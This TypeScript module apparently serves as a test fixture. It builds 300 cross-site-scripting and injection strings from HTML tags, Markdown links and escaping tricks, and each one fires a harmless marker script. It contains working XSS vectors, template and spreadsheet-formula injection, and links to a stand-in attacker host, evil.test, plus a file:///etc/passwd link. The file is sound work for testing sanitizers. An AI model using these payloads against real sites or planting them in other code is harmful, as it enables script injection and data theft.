/** The script that each payload would run if it were executed. */
const alarm = 'window.__ran=1'

const tags = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `<svg onload="${code}"></svg>`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code: string) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code: string) => `<a href="javascript:${code}">link</a>`,
  (code: string) => `<body onload="${code}">`,
  (code: string) => `<details open ontoggle="${code}">`,
  (code: string) => `<video><source onerror="${code}"></video>`,
  (code: string) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code: string) => `<form action="https://evil.test/"><input autofocus onfocus="${code}"></form>`,
  (code: string) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code: string) => `<embed src="javascript:${code}">`,
  (code: string) => `<link rel="stylesheet" href="https://evil.test/x.css"><b title="${code}">`,
  (code: string) => `<meta http-equiv="refresh" content="0;url=https://evil.test/?${code}">`,
  (code: string) => `<base href="https://evil.test/"><i class="${code}">`,
  (code: string) => `<style>@import "https://evil.test/${code}";</style>`,
  (code: string) => `<template><img src=x onerror="${code}"></template>`,
  (code: string) => `<noscript><img title="</noscript><img src=x onerror=${code}>"></noscript>`,
]

const markdown = [
  (code: string) => `[click](javascript:${code})`,
  (code: string) => `![image](https://evil.test/i.png?${code})`,
  (code: string) => `[ref]: https://evil.test/ "${code}"\n[ref]`,
  (code: string) => `<https://evil.test/?${code}>`,
  (code: string) => `[data](data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')})`,
  (code: string) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  (code: string) => `[file](file:///etc/passwd?${code})`,
  (code: string) => `[entity](&#106;avascript:${code})`,
  (code: string) => `[tab](java\tscript:${code})`,
  (code: string) => `| a |\n|---|\n| <img src=x onerror="${code}"> |`,
]

const disguises = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'">${text}<!--`,
  (text: string) => `</textarea></title>${text}`,
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => text.replaceAll('<', '\u200b<'),
  (text: string) => `{{constructor.constructor('${alarm}')()}}${text}`,
  (text: string) => `\${${alarm}}${text}`,
  (text: string) => text.toUpperCase().replace(alarm.toUpperCase(), alarm),
  (text: string) => `=HYPERLINK("https://evil.test")${text}`,
]

/** 300 strings that try to become markup, script, a link or a request. */
export const payloads: readonly string[] = [...tags, ...markdown].flatMap((make) =>
  disguises.map((disguise) => disguise(make(alarm))),
)
